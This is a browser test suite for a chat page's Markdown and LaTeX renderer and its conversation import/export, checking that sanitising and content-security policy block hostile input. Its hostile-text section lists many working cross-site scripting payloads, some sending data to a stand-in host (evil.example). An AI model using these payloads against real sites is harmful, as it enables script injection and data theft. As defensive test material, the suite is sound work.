"""What the chat page makes of a model's text, and its conversations' tree and files, in a real browser, no model.

What it must not make of a hostile text: each of three fences is tried alone, too.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from typing import Any

import pytest

from gpt_fast.serve.page.relay import PageServer
from support.browser import NEEDS_CHROMIUM, Tabs, module

pytestmark = [pytest.mark.slow, *NEEDS_CHROMIUM]

DRAW = """(m, text) => {
  const node = document.createElement("div");
  node.className = "text";
  document.getElementById("log").replaceChildren(node);
  new m.Markdown(node).draw(text, { whole: true });
}"""
SHOW = "(m, html) => document.getElementById('log').replaceChildren(m.safe(html))"
MIXED = """# Title

One **bold** and *soft* word, `code`, a [link](https://example.org) and [later].
A second line with $x^2$ and $5.

| a | b |
|:--|--:|
| 1 | 2 |

1. one
2. two
   - three

```js
const x = "1"; // why
```

\\[ \\frac{1}{2} \\]

> said

$$
y
$$

[later]: https://example.com/later
"""


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    """The page with no server behind it."""
    pages = PageServer("http://127.0.0.1:1", port=0)
    threading.Thread(target=pages.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{pages.server_port}/chat"
    pages.shutdown()
    pages.server_close()


@pytest.fixture(scope="module")
def opened(browser, url, tmp_path_factory) -> Iterator[tuple[Tabs, Any]]:
    tabs = Tabs(browser, tmp_path_factory.mktemp("pictures"))
    yield tabs, tabs.open(url)
    tabs.close()


@pytest.fixture
def page(opened) -> Iterator[Any]:
    """One for all tests: what they draw goes before the next draws."""
    tabs, page = opened
    yield page
    assert not tabs.wrongs


def draw(page: Any, text: str) -> None:
    module(page, "markdown.js").evaluate(DRAW, text)


def texts(page: Any, selector: str) -> list[str]:
    return [text.strip() for text in page.locator(f"#log {selector}").all_text_contents()]


# ------------------------------------------------------------------------------------------- Markdown


@pytest.mark.parametrize(
    ("text", "selector", "expected"),
    [
        ("# One\n### Three", ":is(h1, h3)", ["One", "Three"]),
        ("a **b** *c* ~~d~~", ":is(strong, em, del)", ["b", "c", "d"]),
        ("one\ntwo", "p br", [""]),
        ("| a | b |\n|---|---|\n| 1 | 2<br>3 |", "td", ["1", "23"]),
        ("| a | b |\n|:-:|--:|\n| 1 | 2 |", "td[align=center], #log td[align=right]", ["1", "2"]),
        ("- [x] done\n- [ ] open", "li", ["☑ done", "☐ open"]),
        ("3. three", "ol[start='3'] li", ["three"]),
        ("> said", "blockquote p", ["said"]),
        ("https://example.org and <a@b.org>", "a[href]", ["https://example.org", "a@b.org"]),
        ("[x](/predictions/other) [y](page.html)", "a[href]", []),  # what a model calls a place is none of ours
        ("![a cat](https://example.org/cat.png)", "a[href='https://example.org/cat.png']", ["a cat"]),
        ("a < b & c > d <b>raw</b>", "p", ["a < b & c > d <b>raw</b>"]),
        ("<div>\n**bold**\n</div>", "strong", ["bold"]),
        ("    indented", "pre code", ["indented"]),
        ("```c++\nint x;\n```", ".code-bar span", ["c++"]),
        ("```python\ndef f(): pass\n```", "pre .hljs-keyword", ["def", "pass"]),
        ("```nonsense\n<x>\n```", "pre code", ["<x>"]),
        ("```\nopen", "pre code", ["open"]),
    ],
)
def test_markdown(page, text, selector, expected):
    draw(page, text)
    assert texts(page, selector) == expected


def test_links_open_elsewhere_and_tell_nothing(page):
    draw(page, "[a](https://example.org)")
    link = page.locator("#log a")
    assert link.get_attribute("target") == "_blank" and "noopener noreferrer" in link.get_attribute("rel")


@pytest.mark.parametrize("end", [0, 1])
def test_a_growing_text_is_drawn_as_the_whole_one(page, end):
    """At every character; blocks that are finished are not drawn again, so a selection in them stays."""
    drawn = module(page, "markdown.js").evaluate(
        """(m, text) => {
          const [grown, fresh] = [document.createElement("div"), document.createElement("div")];
          const growing = new m.Markdown(grown);
          let first, kept = true;
          for (let end = 1; end <= text.length; end++) {
            growing.draw(text.slice(0, end));
            if (end > 60) kept &&= grown.firstChild === (first ??= grown.firstChild);
          }
          const different = grown.innerHTML.includes("[later]");
          growing.draw(text, { whole: true });
          new m.Markdown(fresh).draw(text, { whole: true });
          return { kept, different, grown: grown.innerHTML, fresh: fresh.innerHTML };
        }""",
        MIXED if end else MIXED.replace("[later]: https://example.com/later", ""),
    )
    assert drawn["kept"] and drawn["grown"] == drawn["fresh"]
    assert drawn["different"]  # a reference whose target comes last is a link once all is there
    assert ('href="https://example.com/later"' in drawn["grown"]) == bool(end)


def test_copying_code_copies_it_to_the_letter(page):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    code = 'if (a < b && c) {\n\treturn "<é>";\n}'
    draw(page, f"```c\n{code}\n```")
    page.click("#log .copy")
    page.wait_for_selector("#log .copy:text-is('Copied')")
    assert page.evaluate("navigator.clipboard.readText()") == code


def test_without_a_clipboard_a_selection_is_copied(page):
    page.context.grant_permissions(["clipboard-read"])
    page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new Error('no')); }")
    draw(page, "```\nx < y\n```")
    page.click("#log .copy")
    page.wait_for_selector("#log .copy:text-is('Copied')")
    assert page.evaluate("navigator.clipboard.readText()") == "x < y"
    assert page.locator(".off-screen").count() == 0


# ------------------------------------------------------------------------------------------- LaTeX


@pytest.mark.parametrize(
    ("text", "formulas"),
    [
        ("$e^{i\\pi}$ and \\(a\\)", 2),
        ("$$\nx = 1\n$$", 1),
        ("so \\[ x_1 \\] is", 1),
        ("| $a$ | b |\n|--|--|\n| \\(c\\) | d |", 2),
        ("It costs $5 and $10, US$6 or $7.", 0),
        ("`$x$` and \\$y\\$", 0),
        ("```\n$x$\n```", 0),
        ("$HOME/$USER", 0),
        ("$a\\$b$", 1),
        ("$ x $", 0),
    ],
)
def test_latex(page, text, formulas):
    draw(page, text)
    assert page.locator("#log math").count() == formulas


def test_a_formula_is_mathml_that_says_its_source(page):
    draw(page, r"$$\frac{a}{\sqrt{b}}$$")
    assert page.locator("#log math[display=block] mfrac msqrt mi").text_content() == "b"
    assert page.locator("#log annotation").text_content() == r"\frac{a}{\sqrt{b}}"
    box = page.locator("#log mfrac").bounding_box()
    assert box["height"] > 20  # drawn as a fraction, not as letters in a row


@pytest.mark.parametrize(
    "source",
    [r"\frac{", r"\nonsense", r"\href{javascript:hit()}{x}", r"\includegraphics{http://evil.example/x.png}",
     r"\htmlStyle{color: red}{x}", r"\def\a{\a\a}\a"],
)  # fmt: skip
def test_what_is_no_latex_or_too_much_stays_text(page, source):
    draw(page, f"${source}$ after")
    assert page.locator("#log math").count() == 0 and texts(page, "code") == [source]


# ------------------------------------------------------------------------------------------- hostile text

HTML = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img src=http://evil.example/x.png>",
    "<svg onload=hit()><script>hit()</script></svg>",
    "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=http://evil.example></iframe>",
    "<object data=http://evil.example></object><embed src=http://evil.example>",
    "<a href=javascript:hit()>x</a>",
    "<a href='jav&#x09;ascript:hit()'>x</a>",
    "<a href=' &#1;javascript:hit()'>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "<a href='vbscript:hit()'>x</a>",
    "<a href='http://evil.example' ping='http://evil.example/ping'>x</a>",
    "<form action=http://evil.example><input name=nodes><button formaction=javascript:hit()>Send</button></form>",
    "<div style='position:fixed;inset:0;background:url(http://evil.example/x.png)'>x</div>",
    "<style>body { background: url(http://evil.example/x.png) }</style>",
    "<link rel=stylesheet href=http://evil.example/x.css><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<p id=log class='message user' name=getElementById>spoofed</p>",
    "<details open ontoggle=hit()>x</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><img src=x onerror=hit()></template><xmp><img src=x onerror=hit()></xmp>",
]
MARKDOWN = [
    "[x](javascript:hit())",
    "[x](  javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](&#106;avascript:hit())",
    "[x](java\tscript:hit())",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "[x][1]\n\n[1]: javascript:hit()",
    "<javascript:hit()>",
    "![x](http://evil.example/steal?q=secret)",
    "![x](javascript:hit())",
    '![x](http://evil.example/"onerror="hit())',
    '[x](https://a.example/"onclick="hit())',
    '```"><img/src=x/onerror=hit()>\ncode\n```',
    "```html\n<img src=x onerror=hit()>\n```",
    "`<img src=x onerror=hit()>`",
    r"$\text{<img src=x onerror=hit()>}$",
    r"$\href{javascript:hit()}{x}$ $\url{javascript:hit()}$ $\htmlData{a=b}{x}$",
    "$$\n<img src=x onerror=hit()>\n$$",
    "| <img src=x onerror=hit()> |\n|--|\n| [x](javascript:hit()) |",
    "<https://a.example/?<script>hit()</script>>",
]
FOUND = """() => {
  const all = [...document.querySelectorAll("#log *")];
  const links = all.map((node) => node.getAttribute("href")).filter((href) => href !== null);
  return {
    hit: window.hits,
    tags: [...new Set(all.map((node) => node.tagName.toLowerCase()))],
    attributes: [...new Set(all.flatMap((node) => node.getAttributeNames()))],
    links: links.filter((href) => !/^(https?:\\/\\/|mailto:)/i.test(href)),
    classes: [...new Set(all.map((node) => node.getAttribute("class")).filter(Boolean))],
  };
}"""
NEVER = {
    "script",
    "img",
    "svg",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "style",
    "link",
    "meta",
    "base",
    "template",
}


def click_all_and_look(page: Any) -> dict[str, Any]:
    page.evaluate("for (const link of document.querySelectorAll('#log a')) if (!link.href) link.click()")
    page.wait_for_timeout(30)
    return page.evaluate(FOUND)


@pytest.mark.parametrize("way", ["markdown", "DOMPurify alone"])
def test_a_hostile_text_does_nothing(page, opened, way):
    """Each text as Markdown; and each HTML past the first fence, straight into the second."""
    page.evaluate("() => { window.hits = 0; window.hit = () => { window.hits += 1; }; }")
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    markdown = module(page, "markdown.js")
    for text in [*HTML, *MARKDOWN] if way == "markdown" else HTML:
        markdown.evaluate(DRAW if way == "markdown" else SHOW, text)
        found = click_all_and_look(page)
        assert found["hit"] == 0 and not found["links"], text
        assert not NEVER & set(found["tags"]), (text, found["tags"])
        assert not [name for name in found["attributes"] if name.startswith("on")], text
        assert not {"id", "name", "style", "src", "srcdoc", "ping", "formaction"} & set(found["attributes"]), text
        assert not {"message user", "message"} & set(found["classes"]), text
        assert page.url.endswith("/chat"), text
    if way == "DOMPurify alone":  # the document that it parses in has the page's policy, too, and reports there
        opened[0].wrongs[:] = [wrong for wrong in opened[0].wrongs if not wrong.endswith("has been blocked.")]


def test_the_policy_stops_what_both_fences_let_through(tabs, url):
    """The third fence alone, with the page's own hands: no inline script, no markup from text, nobody else's server."""
    page = tabs.open(url)
    told = page.evaluate(
        """async () => {
          window.hits = 0;
          window.hit = () => { window.hits += 1; };
          const refused = [];
          const attempt = async (name, act) => { try { await act(); } catch (error) { refused.push(name); } };
          const put = (tag, attributes) => {
            const node = document.createElement(tag);
            for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
            document.body.append(node);
            return node;
          };
          await attempt("innerHTML", () => { document.body.innerHTML = "<b>x</b>"; });
          setTimeout(() => attempt("eval", () => window.eval("hit()")));  // what the debugger runs itself may evaluate
          setTimeout(() => attempt("Function", () => new Function("hit()")()));
          await attempt("fetch", () => fetch("http://evil.example/"));
          await attempt("onerror", () => put("img", { src: "x", onerror: "hit()" }));
          await attempt("javascript:", () => put("a", { href: "javascript:hit()" }).click());
          put("div", { style: "color: rgb(1, 2, 3)", id: "styled" });
          await new Promise((done) => setTimeout(done, 200));
          return { refused, hits: window.hits, color: getComputedStyle(document.getElementById("styled")).color };
        }"""
    )
    assert told["hits"] == 0 and {"innerHTML", "eval", "Function", "fetch"} <= set(told["refused"])
    assert told["color"] != "rgb(1, 2, 3)"
    assert any("Content Security Policy" in wrong for wrong in tabs.wrongs)
    tabs.wrongs.clear()


# ------------------------------------------------------------------------------------------- an answer

ANSWER_VIEW = """(m, [node, whole]) => {
  const one = { all: [node], index: 0 };
  const view = new m.AnswerView(node, one, {});
  view.draw({ whole });
  document.getElementById("log").replaceChildren(view.article);
  return { busy: view.article.ariaBusy, summary: view.summary.textContent, folded: !view.thinking.open,
           thinking: !view.thinking.hidden, note: view.note.textContent, figures: view.figures.textContent };
}"""


@pytest.mark.parametrize(
    ("node", "whole", "expected"),
    [
        (
            {"content": "", "reasoning": "I think", "thought": 2.04},
            False,
            {"summary": "Thinking… 2 s", "thinking": True},
        ),
        (
            {"content": "So", "reasoning": "I think", "thought": 2.04},
            False,
            {"summary": "Thought for 2.0 s", "busy": "true"},
        ),
        ({"content": "So", "end": "stop"}, True, {"thinking": False, "note": "", "busy": "false"}),
        ({"content": "So", "end": "length", "tokens": 1}, True, {"note": "Max tokens reached.", "figures": "1 token"}),
        ({"content": "So", "end": "cut"}, True, {"note": "The page was left before the answer ended."}),
        ({"content": "So", "end": "cut"}, False, {"note": ""}),
        ({"content": "", "end": "failed", "error": "<b>no</b>"}, True, {"note": "<b>no</b>"}),
        (
            {"content": "So", "model": "m", "first": 31.4, "rate": 95.26, "tokens": 128},
            True,
            {"figures": "m · first token 31 ms · 95.3 tokens/s · 128 tokens"},
        ),
    ],
)
def test_an_answer_says_how_it_came(page, node, whole, expected):
    told = module(page, "message.js").evaluate(ANSWER_VIEW, [node, whole])
    assert told | expected == told and told["folded"]


# ------------------------------------------------------------------------------------------- conversations


def test_a_conversation_is_a_tree_of_which_one_path_is_shown(page):
    told = module(page, "tree.js").evaluate(
        """(t) => {
          const c = t.newConversation(), words = () => t.shown(c).map((node) => node.content).join(" ");
          const said = [];
          const q1 = t.add(c, null, { role: "user", content: "q1" });
          const a1 = t.add(c, q1.id, { role: "assistant", content: "a1" });
          const a2 = t.add(c, q1.id, { role: "assistant", content: "a2" });
          const q2 = t.add(c, a2.id, { role: "user", content: "q2" });
          said.push(words(), t.title(c));
          t.choose(c, a1);
          said.push(words());
          t.add(c, null, { role: "user", content: "Q1 line\\nmore" });
          said.push(words(), t.title(c), t.alternatives(c, q1).index, t.alternatives(c, q1).all.length);
          t.choose(c, q1);
          said.push(words());
          t.choose(c, a2);
          said.push(words(), t.upTo(c, q2).map((node) => node.content).join(" "));
          return said;
        }"""
    )
    assert told == ["q1 a2 q2", "q1", "q1 a1", "Q1 line\nmore", "Q1 line", 0, 2, "q1 a1", "q1 a2 q2", "q1 a2 q2"]


def test_what_is_exported_is_what_is_imported(page):
    first = module(page, "tree.js").evaluate(
        """(t) => {
          const c = t.newConversation(5);
          const q = t.add(c, null, { role: "user", content: "</script> ü" });
          t.add(c, q.id, { role: "assistant", content: "a", reasoning: "r", end: "stop", rate: 1.5, tokens: 3 });
          t.add(c, q.id, { role: "assistant", content: "b" });
          return c;
        }"""
    )
    again = module(page, "transfer.js").evaluate("(m, c) => m.imported(m.exported([c]))", first)
    assert again == [first]


CONVERSATION = {"id": "a" * 24, "nodes": [{"id": "b" * 24, "parent": None, "role": "user", "content": "x"}]}
FORMAT = {"format": "gpt-fast-conversations", "version": 1}


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ([], "not exported by this page"),
        ({**FORMAT, "version": 2, "conversations": []}, "not exported by this page"),
        ({**FORMAT, "conversations": [{"id": "../x", "nodes": []}]}, "conversation 1: no id"),
        ({**FORMAT, "conversations": [CONVERSATION, {**CONVERSATION, "nodes": 5}]}, "conversation 2: no id"),
        *(
            ({**FORMAT, "conversations": [{**CONVERSATION, "nodes": [CONVERSATION["nodes"][0] | wrong]}]}, "a message")
            for wrong in ({"parent": "b" * 24}, {"id": "__proto__"}, {"role": "system"}, {"content": {"a": 1}})
        ),
        ({**FORMAT, "conversations": [{**CONVERSATION, "nodes": CONVERSATION["nodes"] * 2}]}, "a message"),
    ],
)
def test_a_file_that_does_not_fit_is_refused_in_one_line(page, value, problem):
    refusal = module(page, "transfer.js").evaluate(
        "(m, value) => { try { m.imported(JSON.stringify(value)); } catch (error) { return error.message; } }", value
    )
    assert refusal.startswith("import: ") and problem in refusal and "\n" not in refusal


def test_an_imported_message_keeps_only_what_the_page_knows(page):
    node = CONVERSATION["nodes"][0] | {"onclick": "hit()", "rate": "fast", "model": "m", "tokens": 4}
    chosen = {"root": "b" * 24, "__proto__": "b" * 24, "c" * 24: "b" * 24}
    value = {**FORMAT, "conversations": [{**CONVERSATION, "nodes": [node], "chosen": chosen}]}
    (made,) = module(page, "transfer.js").evaluate("(m, value) => m.imported(JSON.stringify(value))", value)
    assert made["nodes"] == [CONVERSATION["nodes"][0] | {"model": "m", "tokens": 4}]
    assert made["chosen"] == {"root": "b" * 24}
